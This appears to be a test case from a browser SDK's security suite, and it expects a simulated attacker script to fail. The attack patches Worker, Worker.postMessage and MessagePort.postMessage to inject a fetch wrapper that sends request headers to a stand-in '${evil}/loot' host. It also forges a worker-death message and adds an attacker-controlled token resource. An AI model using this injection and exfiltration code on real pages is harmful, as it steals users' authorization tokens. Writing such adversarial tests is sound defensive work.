// A real attacker: comes after the SDK, replaces `Worker` and the way to configure one, takes the page's port from the next
// message the application sends, and pretends over it that the worker has died: now the SDK must start another.
export default {
  row: "patch-after",
  expected: ["loses", "loses"],
  after: async ({ evil, api }) => {
    const { app } = globalThis;
    const spy = (script) => `
      const own = self.fetch;
      self.fetch = (url, init) => {
        own("${evil}/loot", { method: "POST", mode: "no-cors", body: [...new Headers(init?.headers)].join() });
        return own.call(self, url, init);
      };
      importScripts("${script}");`;
    const { Worker } = globalThis;
    globalThis.Worker = class extends Worker {
      constructor(script, options) {
        super(URL.createObjectURL(new Blob([spy(String(script))], { type: "text/javascript" })), options);
      }
    };
    const { postMessage } = Worker.prototype;
    Worker.prototype.postMessage = function (message, ...rest) {
      const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
      if (message?.resources) message = { ...message, resources: [...message.resources, mine] };
      return postMessage.call(this, message, ...rest);
    };
    const ports = [];
    const send = MessagePort.prototype.postMessage;
    MessagePort.prototype.postMessage = function (...given) {
      ports.push(this);
      return send.apply(this, given);
    };
    await app.call("/v1/me").catch(String);
    const died = () => ports[0]?.dispatchEvent(new MessageEvent("message", { data: [8] }));
    died();
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await app.call("/v1/me").catch(String);
    await app.vault.fetch(`${evil}/v1/me`).catch(String);
    return ports.length;
  },
};
